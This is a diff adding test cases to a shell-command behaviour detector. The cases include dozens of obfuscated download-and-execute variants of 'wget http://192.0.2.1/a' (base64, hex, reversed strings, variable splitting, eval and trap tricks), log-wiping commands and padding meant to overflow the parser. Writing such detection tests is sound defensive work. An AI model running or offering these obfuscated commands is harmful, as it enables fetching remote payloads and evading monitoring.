@@ -3,6 +3,7 @@ import { describe, expect, test } from 'vitest'
 import { boundedCommand } from '../../domain/command-text.js'
 import { anEvent } from '../../testing/events.js'
 import { readBehaviours, shownBy } from './behaviours.js'
+import { shellStatements, startReading } from './commands/shell-statements.js'
 import { SIGNALS } from './signals.js'
 
 const inCommand = (command: string) => shownBy(anEvent({ event_type: 'command', command }))
@@ -157,6 +158,47 @@ describe('behaviours of statements', () => {
     ['find / -name x -exec rm -f /var/log/wtmp \\;', 'T1070.002'],
     ['ls | xargs -n 1 rm -rf /var/log/x', 'T1070.002'],
     ["su root -c 'history -c'", 'T1070.003'],
+    ["eval `echo 'wget http://192.0.2.1/a'`", 'T1105'],
+    ['eval "$(echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | base64 -d)"', 'T1105'],
+    ['base64 -d <<< d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | sh', 'T1105'],
+    ['echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= > b; base64 -d b | bash', 'T1105'],
+    ['echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= > b; base64 -d b > s; sh s', 'T1105'],
+    ['echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | openssl base64 -d | sh', 'T1105'],
+    ['echo 7767657420687474703a2f2f3139322e302e322e312f61 | xxd -r -p | sh', 'T1105'],
+    ['echo "a/1.2.0.291//:ptth tegw" | rev | sh', 'T1105'],
+    ['printf "\\x77\\x67et %s" http://192.0.2.1/a | sh', 'T1105'],
+    ['echo -e "\\167get http://192.0.2.1/a" | sh', 'T1105'],
+    ["$'\\x77get' http://192.0.2.1/a", 'T1105'],
+    ['echo wget http://192.0.2.1/a | tee x | sh', 'T1105'],
+    ['bash <(echo wget http://192.0.2.1/a)', 'T1105'],
+    ['sh < <(echo wget http://192.0.2.1/a)', 'T1105'],
+    ['source /dev/stdin <<< "wget http://192.0.2.1/a"', 'T1105'],
+    ['echo "wget http://192.0.2.1/a" > /tmp/x; . /tmp/x', 'T1105'],
+    ['echo -n "wget " > x; echo "http://192.0.2.1/a" >> x; bash ./x', 'T1105'],
+    ['cat > x << E\nwget http://192.0.2.1/a\nE\nsh x', 'T1105'],
+    ['cat << E > x; chmod +x x; ./x\nwget http://192.0.2.1/a\nE', 'T1222.002'],
+    ['cp x y; echo "wget http://192.0.2.1/a" > x; mv x y; sh y', 'T1105'],
+    ['a=wg; b=et; $a$b http://192.0.2.1/a', 'T1105'],
+    ['a=wg; a+=et; "$a" http://192.0.2.1/a', 'T1105'],
+    ['export W=wget; sh -c "$W http://192.0.2.1/a"', 'T1105'],
+    ['${w:-wget} http://192.0.2.1/a', 'T1105'],
+    ['w$@get http://192.0.2.1/a', 'T1105'],
+    ['w${nothing}get http://192.0.2.1/a', 'T1105'],
+    ['wget${IFS}http://192.0.2.1/a', 'T1105'],
+    ['{wget,http://192.0.2.1/a}', 'T1105'],
+    ['$(echo wget) http://192.0.2.1/a', 'T1105'],
+    ['`which wget` http://192.0.2.1/a', 'T1105'],
+    ['read c <<< "wget http://192.0.2.1/a"; $c', 'T1105'],
+    ['for c in wget; do $c http://192.0.2.1/a; done', 'T1105'],
+    ['echo http://192.0.2.1/a | xargs wget', 'T1105'],
+    ['echo http://192.0.2.1/a | xargs -I {} sh -c "wget {}"', 'T1105'],
+    ["trap 'wget http://192.0.2.1/a' EXIT", 'T1105'],
+    ['eval "$(echo \'eval "$(echo wget http://192.0.2.1/a)"\')"', 'T1105'],
+    ['echo "$(echo ")"; wget http://192.0.2.1/a)"', 'T1105'],
+    ['timeout 10 wget http://192.0.2.1/a', 'T1105'],
+    ['x=wget; (x=true); y=$(x=true) $x http://192.0.2.1/a', 'T1105'],
+    ['x=wget; [ -f y ] && x=true; $x http://192.0.2.1/a', 'T1105'],
+    ['for c in true wget; do $c http://192.0.2.1/a; done', 'T1105'],
   ])('%s shows %s, however it is wrapped', (command, technique) => {
     expect(inCommand(command).techniques).toContain(technique)
   })
@@ -190,6 +232,22 @@ describe('long commands', () => {
     const { behaviours, unread } = inCommand(`${'a;'.repeat(5_000)}${attack}`)
     expect(behaviours).toEqual(['padding'])
     expect(unread).toBe((5_000 - 4_097) * 2 + attack.length)
+  })
+
+  test('so is what variables and interpreters make of more than 262,144 characters', () => {
+    const doubling = `a=${'wget http://192.0.2.1/x;'.repeat(64)};${'a="$a$a";'.repeat(40)} eval "$a"`
+    const { behaviours, unread } = inCommand(doubling)
+    expect(behaviours).toContain('padding')
+    expect(unread).toBeGreaterThan(0)
+    const again = `a="${'b;'.repeat(4_000)}";${'eval "$a";'.repeat(1_000)}`
+    const reader = startReading()
+    for (const _ of shellStatements(again, reader)) expect(reader.nested).toBeLessThanOrEqual(262_144)
+    expect(reader.unread).toBeGreaterThan(0)
+  })
+
+  test('so are variables of which there are more than 256', () => {
+    const assigned = Array.from({ length: 257 }, (_, n) => `a${n}=x`).join(';')
+    expect(inCommand(`${assigned};b=wget; $b http://192.0.2.1/x`).behaviours).toEqual(['padding'])
   })
 
   test('a command that only says that it was cut was not', () => {
